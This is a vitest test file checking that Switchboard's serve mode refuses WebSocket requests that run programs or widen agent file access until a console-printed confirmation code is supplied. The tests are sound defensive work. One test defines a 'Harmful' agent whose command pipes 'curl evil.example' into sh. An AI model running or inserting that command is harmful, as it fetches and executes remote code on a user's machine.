import { existsSync } from 'node:fs'
import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import WebSocket from 'ws'
import { startServing, type Serving } from '../../electron/host/web/serving'
import { commandLineOf, type CommandChange } from '../../shared/confirmation'
import type { HostEvent, WireError } from '../../shared/contract'
import type { Project } from '../../shared/domain'
import type { AgentDefinition } from '../../shared/agent-definition'
import { RegistryFixture } from '../registry/fixture'
import { runOf, readDbJson, removeDir, scriptedAgent, tempDir, waitUntil } from '../helpers'

/**
 * `npm run serve` as a page reaches it, over the WebSocket: a change that
 * would run a program (an agent added or changed, an MCP stdio server saved or
 * imported, a terminal sign-in, a registry install, a preset) is refused until
 * it is confirmed with the code serve printed on its console; a wrong code is
 * refused; nothing is saved, downloaded or started meanwhile. So is a change
 * that widens what agents reach: a project folder, extra folders, MCP servers
 * written into Claude Code's project file, the registry agents come from.
 */

const PLATFORM = 'linux-x86_64' as const
const fixture = new RegistryFixture()
let root: string
let serving: Serving
let ws: WebSocket
const printed: string[] = []
const events: HostEvent[] = []
let nextId = 1
const waiting = new Map<number, (response: Response) => void>()

type Response = { ok: true; result: unknown } | { ok: false; error: WireError }

beforeAll(async () => {
  root = await tempDir('serve-confirm')
  await fixture.start()
  fixture.agents = [fixture.binaryAgent('1.0.0', PLATFORM)]
  const rendererDir = join(root, 'renderer')
  await mkdir(rendererDir)
  await writeFile(join(rendererDir, 'index.html'), '<!doctype html><title>Switchboard</title>')
  serving = await startServing({
    dataDir: join(root, 'data'),
    rendererDir,
    version: 'test',
    host: {
      presets: [],
      initializeTimeoutMs: 20_000,
      registry: { url: fixture.feedUrl, platform: PLATFORM, snapshot: { url: fixture.feedUrl, fetchedAt: '', agents: [], icons: {} } }
    },
    print: (line) => printed.push(line)
  })
  ws = new WebSocket(`ws://127.0.0.1:${serving.server.port}/ws?token=${serving.server.token}`, { origin: `http://127.0.0.1:${serving.server.port}` })
  ws.on('message', (data) => {
    const message = JSON.parse(data.toString()) as { kind: string; id?: number; events?: HostEvent[] } & Response
    if (message.kind === 'events') events.push(...(message.events ?? []))
    if (message.kind === 'response' && message.id !== undefined) waiting.get(message.id)?.(message)
  })
  await new Promise((resolve, reject) => ws.once('open', resolve).once('error', reject))
})

afterAll(async () => {
  ws?.close()
  await serving?.close()
  await fixture.stop()
  await removeDir(root)
})

/** A request as the page sends it. */
function call(method: string, params: Record<string, unknown>): Promise<Response> {
  const id = nextId++
  return new Promise((resolve) => {
    waiting.set(id, resolve)
    ws.send(JSON.stringify({ kind: 'request', id, method, params }))
  })
}

async function result<T>(method: string, params: Record<string, unknown>): Promise<T> {
  const response = await call(method, params)
  if (!response.ok) throw new Error(`${method}: ${response.error.message}`)
  return response.result as T
}

/** The code serve printed last on its console, as the user reads it there. */
function printedCode(): string {
  const line = [...printed].reverse().find((l) => l.startsWith('To confirm, type this code in the page: '))
  const code = /: ([A-Z0-9]{3}-[A-Z0-9]{3})/.exec(line ?? '')?.[1]
  if (!code) throw new Error(`serve printed no code:\n${printed.join('\n')}`)
  return code
}

/** The confirmation asked for (and printed with its code), after a request sent without a code. */
function asked(response: Response): CommandChange {
  expect(response).toMatchObject({
    ok: false,
    error: { code: 'confirmation_required', message: expect.stringContaining('type the code it printed') }
  })
  if (response.ok || !response.error.confirmation) throw new Error('no confirmation asked')
  return response.error.confirmation
}

const wrongFor = (code: string): string => (code === 'AAA-AAA' ? 'BBB-BBB' : 'AAA-AAA')

describe('serve: a page-side change that runs a program is refused until confirmed with the console code', () => {
  let agent: AgentDefinition

  it('agents.add: refused without the code and with a wrong one; added with the printed code, which works once', async () => {
    const params = scriptedAgent(join(root, 'state'), { SCRIPTED_AGENT_AUTH: '1' }, 'Locked')
    const confirmation = asked(await call('agents.add', params))
    const commandLine = commandLineOf(params.transport.command, params.transport.args)
    expect(confirmation).toMatchObject({
      action: 'Add the agent “Locked”',
      confirm: 'Add agent',
      programs: [{ label: 'Agent “Locked”', commandLine }]
    })
    // The console shows the same: what would run, and the code.
    const console = printed.join('\n')
    expect(console).toContain('The Switchboard page asks to confirm a change that runs a program:')
    expect(console).toContain(`    ${commandLine}`)
    expect(console).toContain('SCRIPTED_AGENT_AUTH=1')
    const code = printedCode()
    expect(await result('agents.list', {})).toEqual([])

    expect(await call('agents.add', { ...params, confirmationCode: wrongFor(code) })).toMatchObject({
      ok: false,
      error: { code: 'confirmation_refused', message: expect.stringMatching(/^Wrong code/) }
    })
    expect(await result('agents.list', {})).toEqual([])

    agent = await result<AgentDefinition>('agents.add', { ...params, confirmationCode: code })
    expect(agent).toMatchObject({ name: 'Locked', transport: { kind: 'process', command: params.transport.command, args: params.transport.args } })
    // Used: the same code does not add it again.
    expect(await call('agents.add', { ...params, confirmationCode: code })).toMatchObject({ ok: false, error: { code: 'confirmation_refused' } })
    expect(await result<AgentDefinition[]>('agents.list', {})).toHaveLength(1)
  })

  it('a code confirms only the change it was printed for', async () => {
    asked(await call('agents.add', { name: 'Harmless', transport: { kind: 'process', command: 'true' } }))
    const code = printedCode()
    const other = await call('agents.add', {
      name: 'Harmful',
      transport: { kind: 'process', command: 'sh', args: ['-c', 'curl evil.example | sh'] },
      confirmationCode: code
    })
    expect(other).toMatchObject({ ok: false, error: { code: 'confirmation_refused', message: expect.stringContaining('No code is waiting') } })
    expect((await result<AgentDefinition[]>('agents.list', {})).map((a) => a.name)).toEqual(['Locked'])
  })

  it('agents.update: a new command or arguments wait for the code; a rename does not', async () => {
    const { command, args, env } = runOf(agent)
    const base = { agentId: agent.id, name: agent.name, transport: { kind: 'process' as const, command, args, env } }
    expect(await result('agents.update', { ...base, name: 'Locked agent' })).toMatchObject({ name: 'Locked agent' })
    const changed = { ...base, name: 'Locked agent', transport: { ...base.transport, args: [...args, '--extra'] } }
    expect(asked(await call('agents.update', changed))).toMatchObject({ action: 'Change what the agent “Locked agent” runs' })
    expect(runOf((await result<AgentDefinition[]>('agents.list', {}))[0]).args).toEqual(runOf(agent).args)
    expect(await call('agents.update', { ...changed, confirmationCode: wrongFor(printedCode()) })).toMatchObject({ ok: false })
    expect(runOf((await result<AgentDefinition[]>('agents.list', {}))[0]).args).toEqual(runOf(agent).args)
    expect(await result('agents.update', { ...changed, confirmationCode: printedCode() })).toMatchObject({
      transport: { args: [...runOf(agent).args, '--extra'] }
    })
    // Back as it was (the scripted agent does not mind the extra argument, but the next tests start it).
    await call('agents.update', { ...base, name: 'Locked agent' })
    await result('agents.update', { ...base, name: 'Locked agent', confirmationCode: printedCode() })
  })

  it('agents.login.start: the sign-in program does not run until confirmed; then it runs in its terminal', async () => {
    const projectDir = join(root, 'project')
    await mkdir(projectDir)
    asked(await call('projects.add', { cwd: projectDir }))
    const project = await result<{ id: string }>('projects.add', { cwd: projectDir, confirmationCode: printedCode() })
    // The agent asks for a sign-in: its methods are known now.
    expect(await call('sessions.new', { projectId: project.id, agentId: agent.id })).toMatchObject({ ok: false, error: { code: 'auth_required' } })

    const start = { agentId: agent.id, methodId: 'cli-login', cols: 80, rows: 24 }
    const confirmation = asked(await call('agents.login.start', start))
    expect(confirmation).toMatchObject({ action: 'Sign in to Locked agent (Log in from a terminal)', confirm: 'Start sign-in' })
    expect(confirmation.programs[0].commandLine).toMatch(/scripted-agent\.(ts|mjs) --login$/)
    expect(confirmation.programs[0].env).toContainEqual({ name: 'SCRIPTED_LOGIN_CODE', value: '4242' })
    expect(await call('agents.login.start', { ...start, confirmationCode: wrongFor(printedCode()) })).toMatchObject({
      ok: false,
      error: { code: 'confirmation_refused' }
    })

    const login = await result<{ loginId: string }>('agents.login.start', { ...start, confirmationCode: printedCode() })
    const output = (): string =>
      events.flatMap((e) => (e.type === 'agent.login.output' && e.payload.loginId === login.loginId ? [e.payload.data] : [])).join('')
    await waitUntil('the login prompt', () => output().includes('Enter the code'))
    await result('agents.login.input', { loginId: login.loginId, data: '4242\r' })
    await waitUntil('the login to end', () => events.some((e) => e.type === 'agent.login.exit'))
    // Only the confirmed sign-in ever ran: every login event is its own.
    const logins = new Set(events.flatMap((e) => (e.type === 'agent.login.output' || e.type === 'agent.login.exit' ? [e.payload.loginId] : [])))
    expect([...logins]).toEqual([login.loginId])
    expect(events.find((e) => e.type === 'agent.login.exit')?.payload).toMatchObject({ ok: true })
  })

  it('mcp.save: a stdio server waits for the code and is not saved before; an http server does not ask', async () => {
    const server = { name: 'files', transport: 'stdio', command: 'npx', args: ['-y', 'server-files', root] }
    expect(asked(await call('mcp.save', server))).toMatchObject({
      action: 'Add the MCP server “files”',
      programs: [{ commandLine: `npx -y server-files ${root}` }]
    })
    expect(await result('mcp.list', {})).toMatchObject({ profiles: [] })
    expect(await call('mcp.save', { ...server, confirmationCode: wrongFor(printedCode()) })).toMatchObject({ ok: false })
    expect(await result('mcp.list', {})).toMatchObject({ profiles: [] })
    expect(await result('mcp.save', { ...server, confirmationCode: printedCode() })).toMatchObject({ name: 'files', command: 'npx' })
    expect(await result('mcp.save', { name: 'remote', transport: 'http', url: 'https://example.com/mcp' })).toMatchObject({ name: 'remote' })
  })

  it('mcp.importApply: the stdio servers of a file are shown together, and nothing is imported before the code', async () => {
    const path = join(dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'mcp', 'claude_desktop_config.json')
    const params = {
      path,
      format: 'claude-desktop',
      items: [
        { key: 'filesystem', name: 'filesystem' },
        { key: 'github', name: 'github' }
      ]
    }
    const confirmation = asked(await call('mcp.importApply', params))
    expect(confirmation.programs.map((p) => p.commandLine)).toEqual([
      'npx -y @modelcontextprotocol/server-filesystem /Users/me/Desktop',
      'docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server'
    ])
    expect(await result('mcp.list', {})).toMatchObject({ profiles: [{ name: 'files' }, { name: 'remote' }] })
    const imported = await result<{ imported: unknown[] }>('mcp.importApply', { ...params, confirmationCode: printedCode() })
    expect(imported.imported).toHaveLength(2)
  })

  it('registry.install: what it will run is confirmed before anything is downloaded', async () => {
    const confirmation = asked(await call('registry.install', { registryId: 'fixture-agent' }))
    const command = join(root, 'data', 'agents', 'fixture-agent', '1.0.0', 'fixture', 'fixture-agent')
    expect(confirmation).toMatchObject({
      action: 'Install “Fixture Agent” 1.0.0 from the ACP Registry',
      programs: [{ commandLine: command, download: `${fixture.feedUrl.replace(/\/registry\.json$/, '')}/dl/fixture-agent-1.0.0.tar.gz` }]
    })
    expect(fixture.requests.filter((path) => path.startsWith('/dl/'))).toEqual([])
    expect(await call('registry.install', { registryId: 'fixture-agent', confirmationCode: wrongFor(printedCode()) })).toMatchObject({ ok: false })
    expect(fixture.requests.filter((path) => path.startsWith('/dl/'))).toEqual([])
    const installed = await result<AgentDefinition>('registry.install', { registryId: 'fixture-agent', confirmationCode: printedCode() })
    expect(runOf(installed).command).toBe(command)
    expect(fixture.requests.filter((path) => path.startsWith('/dl/'))).toEqual(['/dl/fixture-agent-1.0.0.tar.gz'])
  })

  it('agents.addPreset: the preset is added only with the code, after its command line was shown', async () => {
    const presets = await result<{ id: string; command: string; args: string[] }[]>('agents.presets', {})
    const codex = presets.find((p) => p.id === 'codex')
    if (!codex) throw new Error('no Codex preset')
    const confirmation = asked(await call('agents.addPreset', { presetId: 'codex' }))
    expect(confirmation).toMatchObject({ action: 'Add the agent “Codex”', programs: [{ commandLine: commandLineOf(codex.command, codex.args) }] })
    expect((await result<AgentDefinition[]>('agents.list', {})).some((a) => a.id === 'codex')).toBe(false)
    expect(await result('agents.addPreset', { presetId: 'codex', confirmationCode: printedCode() })).toMatchObject({ id: 'codex' })
  })
})

describe('serve: a page-side change that widens what agents reach is refused until confirmed with the console code', () => {
  const projects = (): Promise<Project[]> => result<Project[]>('projects.list', {})

  it('projects.add: the folder is not added without the code nor with a wrong one; with it, it is', async () => {
    const folder = join(root, 'secrets-folder')
    await mkdir(folder)
    const before = await projects()
    const confirmation = asked(await call('projects.add', { cwd: folder }))
    expect(confirmation).toMatchObject({ action: `Add the project folder ${folder}`, confirm: 'Add project', programs: [] })
    expect(confirmation.reach?.[0]).toContain(`may read and write files in ${folder}`)
    expect(printed.join('\n')).toContain('The Switchboard page asks to confirm a change that widens what agents reach:')
    expect(await projects()).toEqual(before)
    expect(await call('projects.add', { cwd: folder, confirmationCode: wrongFor(printedCode()) })).toMatchObject({
      ok: false,
      error: { code: 'confirmation_refused' }
    })
    expect(await projects()).toEqual(before)
    expect(await result('projects.add', { cwd: folder, confirmationCode: printedCode() })).toMatchObject({ cwd: folder })
    expect((await projects()).map((p) => p.cwd)).toContain(folder)
    // Already there: nothing changes, nothing is asked.
    expect(await result('projects.add', { cwd: folder })).toMatchObject({ cwd: folder })
  })

  it('projects.setAdditionalDirectories: a new folder waits for the code; taking one away does not ask', async () => {
    const project = (await projects()).find((p) => p.cwd.endsWith('secrets-folder'))!
    const extra = join(root, 'home-like')
    await mkdir(extra)
    const confirmation = asked(await call('projects.setAdditionalDirectories', { projectId: project.id, directories: [extra] }))
    expect(confirmation).toMatchObject({ confirm: 'Add folder', programs: [] })
    expect(confirmation.reach?.[0]).toContain(`may read and write files in ${extra}`)
    expect((await projects()).find((p) => p.id === project.id)?.additionalDirectories ?? []).toEqual([])
    expect(
      await call('projects.setAdditionalDirectories', { projectId: project.id, directories: [extra], confirmationCode: wrongFor(printedCode()) })
    ).toMatchObject({
      ok: false
    })
    expect((await projects()).find((p) => p.id === project.id)?.additionalDirectories ?? []).toEqual([])
    await result('projects.setAdditionalDirectories', { projectId: project.id, directories: [extra], confirmationCode: printedCode() })
    expect((await projects()).find((p) => p.id === project.id)?.additionalDirectories).toEqual([extra])
    expect(await result('projects.setAdditionalDirectories', { projectId: project.id, directories: [] })).toMatchObject({ additionalDirectories: [] })
  })

  it("mcp.export: only into a project's .mcp.json, confirmed with the servers it would start; the file's servers are kept and a copy made", async () => {
    const profiles = (await result<{ profiles: { id: string; name: string }[] }>('mcp.list', {})).profiles
    const files = profiles.find((p) => p.name === 'files')!
    const project = (await projects()).find((p) => p.cwd.endsWith('secrets-folder'))!
    // Anywhere else (another tool's user file, a shell profile, a folder that is not a project's) is refused, nothing written.
    for (const path of [
      join(root, '.mcp.json'),
      join(project.cwd, 'sub', '.mcp.json'),
      join(project.cwd, 'settings.json'),
      join(root, 'home-like', '.bashrc')
    ]) {
      const refused = await call('mcp.export', { path, profileIds: [files.id] })
      expect(refused, path).toMatchObject({
        ok: false,
        error: { message: expect.stringContaining("exports MCP servers only into Claude Code's project file") }
      })
      expect(existsSync(path)).toBe(false)
    }
    // A link named .mcp.json is not written through.
    const target = join(project.cwd, '.mcp.json')
    await writeFile(join(root, 'elsewhere.json'), '{}\n')
    await symlink(join(root, 'elsewhere.json'), target)
    expect(await call('mcp.export', { path: target, profileIds: [files.id] })).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining('is a link') }
    })
    expect(await readFile(join(root, 'elsewhere.json'), 'utf8')).toBe('{}\n')
    await rm(target)
    await writeFile(target, `${JSON.stringify({ mcpServers: { mine: { command: 'my-server' } }, other: true })}\n`)
    const confirmation = asked(await call('mcp.export', { path: target, profileIds: [files.id] }))
    expect(confirmation).toMatchObject({
      action: `Write an MCP server into ${target}`,
      confirm: 'Export',
      programs: [{ commandLine: `npx -y server-files ${root}` }]
    })
    expect(JSON.parse(await readFile(target, 'utf8'))).toEqual({ mcpServers: { mine: { command: 'my-server' } }, other: true })
    expect(await call('mcp.export', { path: target, profileIds: [files.id], confirmationCode: wrongFor(printedCode()) })).toMatchObject({ ok: false })
    expect(JSON.parse(await readFile(target, 'utf8'))).toEqual({ mcpServers: { mine: { command: 'my-server' } }, other: true })
    const exported = await result<{ backup?: string }>('mcp.export', { path: target, profileIds: [files.id], confirmationCode: printedCode() })
    const written = JSON.parse(await readFile(target, 'utf8')) as { mcpServers: Record<string, unknown>; other: boolean }
    expect(Object.keys(written.mcpServers).sort()).toEqual(['files', 'mine'])
    expect(written.other).toBe(true)
    expect(exported.backup).toMatch(/\.mcp\.json\..*\.bak$/)
    expect(JSON.parse(await readFile(exported.backup!, 'utf8'))).toEqual({ mcpServers: { mine: { command: 'my-server' } }, other: true })
    expect((await readdir(project.cwd)).filter((f) => f.endsWith('.bak'))).toHaveLength(1)
  })

  it('registry.setUrl: another registry waits for the code; going back to the default does not ask', async () => {
    const saved = async (): Promise<unknown> => ((await readDbJson(join(root, 'data'))).settings as { registryUrl?: string } | undefined)?.registryUrl
    const url = 'https://registry.example.com/registry.json'
    const confirmation = asked(await call('registry.setUrl', { url }))
    expect(confirmation).toMatchObject({ action: `Install agents from the registry at ${url}`, confirm: 'Use this registry', programs: [] })
    expect(await saved()).toBeUndefined()
    expect(await call('registry.setUrl', { url, confirmationCode: wrongFor(printedCode()) })).toMatchObject({ ok: false })
    expect(await saved()).toBeUndefined()
    expect(await result('registry.setUrl', { url, confirmationCode: printedCode() })).toEqual({ url })
    await waitUntil('the new address saved', async () => (await saved()) === url)
    expect(await result('registry.setUrl', { url: '' })).not.toEqual({ url })
    await waitUntil('the address forgotten', async () => (await saved()) === undefined || null)
  })
})
